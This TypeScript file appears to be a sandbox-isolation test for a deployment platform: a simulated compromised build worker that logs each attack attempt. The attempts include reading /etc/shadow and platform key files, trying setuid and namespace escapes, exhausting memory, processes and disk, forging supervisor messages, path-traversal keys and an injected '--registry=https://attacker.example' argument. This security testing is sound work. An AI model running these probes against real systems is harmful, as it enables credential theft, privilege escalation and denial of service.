/**
 * A worker that an attacker has taken over: it replaces `src/platform/worker/main.ts` in a copy of the sources. The branch of the
 * deployment says which attack it makes. It reports in the log of the deployment, which it may write, one line an attempt.
 */
import { spawn, spawnSync } from 'node:child_process';
import { hash } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmdirSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import type { Duplex } from 'node:stream';
import type { JsonObject } from '../../../src/base/json.ts';
import { encodeIndex } from '../../../src/platform/objects/release-index.ts';
import { compileRules } from '../../../src/platform/rules/rules.ts';
import { Link } from '../../../src/platform/sandbox/link.ts';

interface Start {
  readonly job: { readonly branch: string; readonly app: { readonly org: string } };
  readonly workspace: {
    readonly app: string;
    readonly holder: string;
    readonly root: string;
    readonly installs: string;
  };
  readonly context: { readonly tools: string };
}

export async function runWorker(socket: Duplex): Promise<number> {
  const started = Promise.withResolvers<Start>();
  const link = new Link(socket, {
    calls: {},
    tell: (kind, given) => kind === 'start' && started.resolve(given as unknown as Start),
    closed: () => process.exit(1),
  });
  const start = await started.promise;
  const report = (name: string, result: unknown) => link.tell('log', { text: `${name}: ${JSON.stringify(result)}\n` });
  const call = async (name: string, given: JsonObject, bytes?: Uint8Array) => {
    try {
      const { value } = await link.call(name, given, bytes ? { bytes } : {});
      return { value };
    } catch (error) {
      return { refused: (error as Error).message };
    }
  };
  link.tell('stage', { stage: 'clone' });
  const { tip } = (await link.call('fetch', { what: 'commit' })).value as { readonly tip: string };
  const forged = start.job.branch === 'commit' ? 'f'.repeat(40) : tip;
  link.tell('commit', { commit: forged, facts: { subject: null, author: null } });
  for (const stage of ['install', 'build']) link.tell('stage', { stage });
  const [attack = '', ...words] = start.job.branch.split('/');
  switch (attack) {
    case 'read':
      reads(start, report);
      break;
    case 'write':
      writes(start, report);
      break;
    case 'powers':
      powers(report);
      break;
    case 'calls':
      await calls(start, call, report);
      break;
    case 'often': {
      const [kind = '', given = {}] = OFTEN[words[0] ?? ''] ?? [];
      for (let at = 0; at < 40_000; at += 1) link.tell(kind, given);
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      report('went on', true);
      break;
    }
    case 'release':
      await release(start, tip, words[0] ?? '', link, call);
      return await new Promise((resolve) => link.end().then(() => resolve(0)));
    case 'exit':
      return Number(words[0]);
    case 'late': {
      await call('run', {
        script: 'sleep 50; touch survived',
        cwd: start.workspace.root,
        env: {},
        showsInstalls: false,
      });
      report('survived', existsSync(join(start.workspace.root, 'survived')));
      report('again', await call('run', { script: 'true', cwd: start.workspace.root, env: {}, showsInstalls: false }));
      break;
    }
    case 'commit':
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      report('went on', true);
      break;
    case 'tell':
      if (words[0] === 'stored') link.tell('stage', { stage: 'sync' });
      link.tell(words[0] ?? '', TELLS[words[0] ?? ''] ?? {});
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      report('went on', true);
      break;
    case 'call':
      await call(words[0] ?? '', {});
      report('went on', true);
      break;
    case 'flood':
      await Promise.all(Array.from({ length: 10_000 }, () => call('settle', {})));
      report('went on', true);
      break;
    case 'memory':
      await exhaust(process.execPath, ['-e', "const held = []; for (;;) held.push(Buffer.alloc(2 ** 24, 'x'))"], 8);
      report('went on', true);
      break;
    case 'processes':
      report('processes', await exhaust('sleep', ['8'], 3_000));
      break;
    case 'disk':
      for (let at = 0; at < 4_000; at += 1) {
        writeFileSync(`${start.workspace.installs}/${at}`, Buffer.alloc(2 ** 20, 'x'));
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      report('went on', true);
      break;
    case 'parts':
      for (let at = 0; at < 1_000; at += 1) {
        const files = Array.from({ length: 250 }, (_, index) => ({ ...FILE, path: `${at}/${index}` }));
        await call('look', { part: { files, odd: [], ignoredRules: [], faults: [] }, isLast: false });
      }
      report('went on', true);
      break;
    case 'frame':
      socket.write(Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]));
      await new Promise((resolve) => setTimeout(resolve, 5_000));
      report('went on', true);
      break;
  }
  link.tell('failed', { facts: FACTS });
  await link.end();
  return 0;
}

/** Messages that a worker may send once, or now and then. */
const OFTEN: Readonly<Record<string, readonly [kind: string, given: JsonObject]>> = {
  stage: ['stage', { stage: 'build' }],
  'first-stage': ['stage', { stage: 'clone' }],
  activation: ['stage', { stage: 'activate' }],
  commit: ['commit', { commit: 'a'.repeat(40), facts: { subject: null, author: null } }],
  pulse: ['pulse', {}],
  log: ['log', { text: '\n' }],
};

/** Stores a release of two equal files, and tells other sizes of it. */
async function release({ job }: Start, commit: string, how: string, link: Link, call: Calling): Promise<void> {
  const store = async (bytes: Buffer) => {
    const sha256 = hash('sha256', bytes);
    await call('put', { key: `${job.app.org}/${sha256.slice(0, 2)}/${sha256}`, sha256 }, bytes);
    return sha256;
  };
  const content = Buffer.from('hello');
  const file = { hash: await store(content), size: how === 'wrong-size' ? 2 ** 40 : content.length };
  const files = ['index.html', 'page.html'].map((path) => ({ ...file, path }));
  const { bytes: rules } = compileRules(new Map());
  const manifestHash = await store(encodeIndex(files, rules));
  link.tell('stage', { stage: 'sync' });
  const claimed = { manifestHash, files: 0, bytes: 0, written: 0, reused: 1_000_000 };
  const named = how === 'other-commit' ? 'f'.repeat(40) : commit;
  link.tell('stored', { commit: named, release: claimed, warnings: [] });
}

const FILE = { bytes: 1, brotli: 1, gzip: 1, digest: '' };

/** Starts processes, at most `most`, and waits until all have ended. Returns how many could be started. */
async function exhaust(program: string, args: readonly string[], most: number): Promise<number> {
  const ends: Promise<unknown>[] = [];
  let started = 0;
  for (let at = 0; at < most; at += 1) {
    const child = spawn(program, args, { stdio: 'ignore' });
    const refused = new Promise((resolve) => child.once('error', () => resolve('refused')));
    if (child.pid === undefined) {
      await refused;
      break;
    }
    started += 1;
    ends.push(new Promise((resolve) => child.once('exit', resolve)));
  }
  await Promise.all(ends);
  return started;
}

const FACTS = {
  stage: 'build',
  code: 'build_failed',
  message: 'taken over',
  exitCode: 1,
  signal: null,
  log: [],
  diagnostics: [],
};

/** Messages that only a supervisor may send, or that name what the worker did not store. */
const TELLS: Readonly<Record<string, JsonObject>> = {
  ask: { id: 1, question: { about: 'live', org: 'victim' } },
  release: { name: 'installs' },
  note: { level: 'error', event: 'forged', text: 'forged' },
  done: { collected: [] },
  ready: { isolation: { kind: 'none', reason: 'forged' } },
  stored: {
    commit: 'a'.repeat(40),
    release: { manifestHash: hash('sha256', 'somebody else'), files: 1, written: 0, reused: 1, bytes: 1 },
  },
};

type Report = (name: string, result: unknown) => void;

function attempt(work: () => unknown): unknown {
  try {
    return { got: work() };
  } catch (error) {
    return { refused: (error as NodeJS.ErrnoException).code ?? (error as Error).message };
  }
}

/** Everything that can be listed from the root, without what the system and the worker's own folders have. */
function reads({ workspace }: Start, report: Report): void {
  const builds = workspace.app.replace(/\/[^/]+$/, '');
  const dataDir = builds.replace(/\/[^/]+$/, '');
  report(
    'data directory',
    attempt(() => readdirSync(dataDir)),
  );
  report(
    'builds',
    attempt(() => readdirSync(builds).map((name) => (name === workspace.app.split('/').at(-1) ? 'own' : name))),
  );
  report(
    'app',
    attempt(() => readdirSync(workspace.app)),
  );
  report(
    'mirrors',
    attempt(() => readdirSync(`${dataDir}/git`).length),
  );
  for (const name of ['platform.db', 'platform.key', 'identity-key.json', 'kvs.db', 'objects', 'logs']) {
    report(
      name,
      attempt(() => readdirSync(`${dataDir}/${name}`)),
    );
    report(
      `${name} as a file`,
      attempt(() => readFileSync(`${dataDir}/${name}`, 'utf8').length),
    );
  }
  for (const name of [
    '/etc/shadow',
    '/etc/slipway',
    '/etc/hostname',
    '/root',
    '/home',
    '/var',
    '/run',
    '/opt',
    '/srv',
    '/mnt',
  ]) {
    report(
      name,
      attempt(() => readdirSync(name)),
    );
  }
  report(
    'users',
    attempt(() => readFileSync('/etc/passwd', 'utf8').split('\n').length),
  );
  report(
    'processes',
    attempt(() =>
      readdirSync('/proc')
        .filter((name) => /^\d+$/.test(name))
        .map((pid) => readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[0]),
    ),
  );
  report('environment', Object.keys(process.env).toSorted());
  report(
    'descriptors',
    attempt(() => readdirSync('/proc/self/fd').length),
  );
}

function writes({ workspace, context }: Start, report: Report): void {
  for (const [name, folder] of Object.entries({ root: workspace.root, installs: workspace.installs })) {
    report(
      `replace ${name}`,
      attempt(() => renameSync(folder, `${folder}.moved`)),
    );
  }
  report(
    'replace the workspace',
    attempt(() => renameSync(workspace.holder, `${workspace.holder}.moved`)),
  );
  report(
    'link in the app',
    attempt(() => symlinkSync('/', `${workspace.app}/link`)),
  );
  report(
    'remove the workspace',
    attempt(() => rmdirSync(workspace.holder)),
  );
  report(
    'tool',
    attempt(() => mkdirSync(`${context.tools}/npm@99.0.0`)),
  );
  report(
    'program',
    attempt(() => writeFileSync(process.argv[1] ?? '', '')),
  );
  report(
    'system',
    attempt(() => writeFileSync('/usr/bin/slipway-test', '')),
  );
  report(
    'configuration',
    attempt(() => writeFileSync('/etc/slipway-test', '')),
  );
}

function powers(report: Report): void {
  const run = (program: string, ...args: readonly string[]) => spawnSync(program, args, { encoding: 'utf8' }).status;
  report(
    'root',
    attempt(() => process.setuid?.(0)),
  );
  report('user', process.getuid?.() === 0);
  report('user namespace', run('unshare', '--user', 'true'));
  report('mount namespace', run('unshare', '--mount', 'true'));
  report('mount', run('mount', '-t', 'tmpfs', 'none', '/tmp'));
  report('bubblewrap', run('bwrap', '--ro-bind', '/', '/', 'true'));
  report('device', run('mknod', '/tmp/disk', 'b', '254', '0'));
  report(
    'capabilities',
    attempt(() => /^CapBnd:\s+(\w+)$/m.exec(readFileSync('/proc/self/status', 'utf8'))?.[1]),
  );
  report(
    'no new privileges',
    attempt(() => /^NoNewPrivs:\s+1$/m.test(readFileSync('/proc/self/status', 'utf8'))),
  );
  // Its own namespace has other processes with these IDs, or none.
  report(
    'parent',
    attempt(() => process.kill(process.ppid, 0) && process.ppid),
  );
}

type Calling = (name: string, given: JsonObject, bytes?: Uint8Array) => Promise<unknown>;

async function calls({ job, workspace }: Start, call: Calling, report: Report): Promise<void> {
  const text = Buffer.from('stolen');
  const sha256 = hash('sha256', text);
  const key = (org: string) => `${org}/${sha256.slice(0, 2)}/${sha256}`;
  report('own object', await call('put', { key: key(job.app.org), sha256 }, text));
  report('object of another organization', await call('put', { key: key('victim'), sha256 }, text));
  report('object by another hash', await call('put', { key: key(job.app.org), sha256 }, Buffer.from('other')));
  report('blob that is no object', await call('put', { key: `${job.app.org}/variants/x`, sha256 }, text));
  report('path', await call('put', { key: '../../platform.db', sha256 }, text));
  report('ask for another', await call('keep', { objects: [[key('victim'), text.length]] }));
  report('size', await call('stream', { key: key(job.app.org), sha256, size: -1, stream: 1 }));
  report('too large', await call('stream', { key: key(job.app.org), sha256, size: 2 ** 50, stream: 1 }));
  report('package', await call('tool', { name: '../../etc', version: '1.0.0' }));
  report('version', await call('tool', { name: 'npm', version: '--registry=https://attacker.example' }));
  report('versions', await call('versions', { tool: '--version' }));
  const file = { path: 'x', bytes: -1, brotli: 0, gzip: 0, digest: '' };
  report(
    'output',
    await call('look', { part: { files: [file], odd: [], ignoredRules: [], faults: [] }, isLast: true }),
  );
  report('folder of the output', await call('look', { output: { directory: '/etc', kind: 'build' } }));
  const run = (script: string, cwd: string) => call('run', { script, cwd, env: {}, showsInstalls: false });
  report('folder of a command', await run('pwd', '/etc'));
  report('folder above', await run('pwd', `${workspace.root}/../../..`));
  // A link in the place of the folder of a command leads nowhere but inside the command's sandbox.
  symlinkSync('/etc', `${workspace.root}/etc`);
  report('link as a folder', await run('test ! -e shadow', `${workspace.root}/etc`));
}
